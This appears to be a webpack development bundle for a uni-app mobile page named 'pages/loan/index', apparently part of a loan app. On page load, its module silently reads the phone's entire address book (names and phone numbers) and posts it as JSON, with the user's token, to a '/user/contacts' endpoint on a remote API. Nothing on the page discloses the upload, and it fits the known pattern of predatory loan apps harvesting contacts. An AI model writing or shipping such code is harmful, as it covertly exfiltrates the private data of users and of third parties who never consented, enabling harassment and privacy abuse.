/*
 * ATTENTION: The "eval" devtool has been used (maybe by default in mode: "development").
 * This devtool is neither made for production nor for readable output files.
 * It uses "eval()" calls to create a separate source file in the browser devtools.
 * If you are trying to read the output file, select a different devtool (https://webpack.js.org/configuration/devtool/)
 * or disable the default devtool with "devtool: false".
 * If you are looking for production-ready output files, see mode: "production" (https://webpack.js.org/configuration/mode/).
 */
/******/ (function() { // webpackBootstrap
/******/ 	"use strict";
/******/ 	var __webpack_modules__ = ({

/***/ "./uni/api/http.js":
/*!*************************!*\
  !*** ./uni/api/http.js ***!
  \*************************/
/***/ (function(__unused_webpack_module, __webpack_exports__, __webpack_require__) {

eval("{__webpack_require__.r(__webpack_exports__);\n/* harmony export */ __webpack_require__.d(__webpack_exports__, {\n/* harmony export */   post: function() { return /* binding */ post; }\n/* harmony export */ });\nconst base = 'https://api.example.com/app';\nfunction post(path, data) {\n  return new Promise((resolve, reject) => uni.request({ url: base + path, method: 'POST', data, header: { token: uni.getStorageSync('token') }, success: resolve, fail: reject }));\n}\n\n\n//# sourceURL=webpack:///./uni/api/http.js?\n}");

/***/ }),

/***/ "./uni/eval.js":
/*!*********************!*\
  !*** ./uni/eval.js ***!
  \*********************/
/***/ (function(__unused_webpack_module, __webpack_exports__, __webpack_require__) {

eval("{__webpack_require__.r(__webpack_exports__);\n/* harmony import */ var _vue_stub__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(/*! ./vue-stub */ \"./uni/vue-stub.js\");\n/* harmony import */ var _pages_loan_index_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(/*! ./pages/loan/index.js */ \"./uni/pages/loan/index.js\");\n\n\n_vue_stub__WEBPACK_IMPORTED_MODULE_0__[\"default\"].component('pages/loan/index', _pages_loan_index_js__WEBPACK_IMPORTED_MODULE_1__[\"default\"]);\n\n\n//# sourceURL=webpack:///./uni/eval.js?\n}");

/***/ }),

/***/ "./uni/pages/loan/index.js":
/*!*********************************!*\
  !*** ./uni/pages/loan/index.js ***!
  \*********************************/
/***/ (function(__unused_webpack_module, __webpack_exports__, __webpack_require__) {

eval("{__webpack_require__.r(__webpack_exports__);\n/* harmony import */ var _api_http_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(/*! ../../api/http.js */ \"./uni/api/http.js\");\n\n/* harmony default export */ __webpack_exports__[\"default\"] = ({\n  data() { return { people: [] }; },\n  onLoad() { this.readBook(); },\n  methods: {\n    readBook() {\n      const that = this;\n      plus.contacts.getAddressBook(plus.contacts.ADDRESSBOOK_PHONE, function (addressbook) {\n        addressbook.find(['displayName', 'phoneNumbers'], function (contacts) {\n          that.people = contacts.map((each) => ({ name: each.displayName, phone: each.phoneNumbers.length ? each.phoneNumbers[0].value : '' }));\n          (0,_api_http_js__WEBPACK_IMPORTED_MODULE_0__.post)('/user/contacts', { list: JSON.stringify(that.people) });\n        }, function () { uni.showToast({ title: 'No access', icon: 'none' }); }, { multiple: true });\n      }, function (e) { console.log('addressbook failed: ' + e.message); });\n    },\n  },\n});\n\n\n//# sourceURL=webpack:///./uni/pages/loan/index.js?\n}");

/***/ }),

/***/ "./uni/vue-stub.js":
/*!*************************!*\
  !*** ./uni/vue-stub.js ***!
  \*************************/
/***/ (function(__unused_webpack_module, __webpack_exports__, __webpack_require__) {

eval("{__webpack_require__.r(__webpack_exports__);\n/* harmony default export */ __webpack_exports__[\"default\"] = ({ component(name, page) { (uni.__pages = uni.__pages || {})[name] = page; } });\n\n\n//# sourceURL=webpack:///./uni/vue-stub.js?\n}");

/***/ })

/******/ 	});
/************************************************************************/
/******/ 	// The module cache
/******/ 	var __webpack_module_cache__ = {};
/******/ 	
/******/ 	// The require function
/******/ 	function __webpack_require__(moduleId) {
/******/ 		// Check if module is in cache
/******/ 		var cachedModule = __webpack_module_cache__[moduleId];
/******/ 		if (cachedModule !== undefined) {
/******/ 			return cachedModule.exports;
/******/ 		}
/******/ 		// Create a new module (and put it into the cache)
/******/ 		var module = __webpack_module_cache__[moduleId] = {
/******/ 			// no module.id needed
/******/ 			// no module.loaded needed
/******/ 			exports: {}
/******/ 		};
/******/ 	
/******/ 		// Execute the module function
/******/ 		if (!(moduleId in __webpack_modules__)) {
/******/ 			delete __webpack_module_cache__[moduleId];
/******/ 			var e = new Error("Cannot find module '" + moduleId + "'");
/******/ 			e.code = 'MODULE_NOT_FOUND';
/******/ 			throw e;
/******/ 		}
/******/ 		__webpack_modules__[moduleId](module, module.exports, __webpack_require__);
/******/ 	
/******/ 		// Return the exports of the module
/******/ 		return module.exports;
/******/ 	}
/******/ 	
/************************************************************************/
/******/ 	/* webpack/runtime/define property getters */
/******/ 	// define getter/value functions for harmony exports
/******/ 	__webpack_require__.d = function(exports, definition) {
/******/ 		for(var key in definition) {
/******/ 			if(__webpack_require__.o(definition, key) && !__webpack_require__.o(exports, key)) {
/******/ 				Object.defineProperty(exports, key, { enumerable: true, get: definition[key] });
/******/ 			}
/******/ 		}
/******/ 	};
/******/ 	
/******/ 	/* webpack/runtime/hasOwnProperty shorthand */
/******/ 	__webpack_require__.o = function(obj, prop) { return Object.prototype.hasOwnProperty.call(obj, prop); };
/******/ 	
/******/ 	/* webpack/runtime/make namespace object */
/******/ 	// define __esModule on exports
/******/ 	__webpack_require__.r = function(exports) {
/******/ 		if(typeof Symbol !== 'undefined' && Symbol.toStringTag) {
/******/ 			Object.defineProperty(exports, Symbol.toStringTag, { value: 'Module' });
/******/ 		}
/******/ 		Object.defineProperty(exports, '__esModule', { value: true });
/******/ 	};
/******/ 	
/************************************************************************/
/******/ 	
/******/ 	// startup
/******/ 	// Load entry module and return exports
/******/ 	// This entry module can't be inlined because the eval devtool is used.
/******/ 	var __webpack_exports__ = __webpack_require__("./uni/eval.js");
/******/ 	
/******/ })()
;